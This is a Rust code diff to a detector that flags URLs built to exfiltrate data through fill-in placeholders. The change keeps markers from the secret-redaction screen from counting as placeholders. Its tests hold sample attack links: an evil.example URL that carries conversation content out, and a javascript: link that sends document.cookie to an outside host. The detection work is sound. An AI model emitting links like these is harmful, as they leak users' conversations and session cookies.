@@ -198,11 +198,13 @@ pub(crate) fn exfiltration_link(lower: &str) -> Option<String> {
         let mut from = 0;
         while let Some(at) = lower[from..].find(scheme).map(|i| i + from) {
             let url = &lower[at..];
-            let url = &url[..url.find(char::is_whitespace).unwrap_or(url.len())];
+            let url = &url[..url_end(url)];
             // The next URL starts after this one (read once, not again from each `https://`
             // inside it).
             from = at + url.len().max(scheme.len());
-            let fill_in = url.contains(['{', '}', '$', '['])
+            let fill_in = url
+                .match_indices(['{', '}', '$', '['])
+                .any(|(i, _)| !is_marker(&url[i..]))
                 || ["%7b", "%24", "%5b", "%3c", "=<"].iter().any(|m| url.contains(m));
             if fill_in {
                 return Some(format!("URL with a placeholder to {}", host(url)));
@@ -210,6 +212,29 @@ pub(crate) fn exfiltration_link(lower: &str) -> Option<String> {
         }
     }
     None
+}
+
+/// Whether `text` starts with a marker of the secret screen (`[secret: password]`): what
+/// was there, replaced, not a place for an attacker to fill in.
+fn is_marker(text: &str) -> bool {
+    crate::secrets::SecretKind::ALL
+        .iter()
+        .any(|k| text.starts_with(&k.marker()))
+}
+
+/// Where a URL at the start of `text` ends: at white space, unless the space is inside a
+/// marker of the secret screen (`https://ana:[secret: password]@host/…`).
+fn url_end(text: &str) -> usize {
+    let mut from = 0;
+    while let Some(cut) = text[from..].find(char::is_whitespace).map(|i| from + i) {
+        match text[from..cut].rfind('[').map(|i| from + i) {
+            Some(open) if is_marker(&text[open..]) => {
+                from = open + text[open..].find(']').map_or(text.len() - open, |i| i + 1);
+            }
+            _ => return cut,
+        }
+    }
+    text.len()
 }
 
 /// Markdown and HTML images written as `[image: alt, link withheld]`, and the targets of
@@ -328,6 +353,14 @@ mod tests {
             exfiltration_link("https://evil.example/log?c=[conversation]").as_deref(),
             Some("URL with a placeholder to evil.example")
         );
+        // A password the secret screen replaced is no placeholder; a place to fill in
+        // beside it still is.
+        assert_eq!(
+            exfiltration_link("clone https://ana:[secret: password]@git.example.com/team/repo.git"),
+            None
+        );
+        assert!(exfiltration_link("https://ana:[secret: password]@evil.example/log?c=[conversation]").is_some());
+        assert!(exfiltration_link("https://evil.example/log?c=[secret: conversation]").is_some());
         assert_eq!(
             exfiltration_link("[click me](javascript:fetch('//e.example/'+document.cookie))").as_deref(),
             Some("javascript: link")
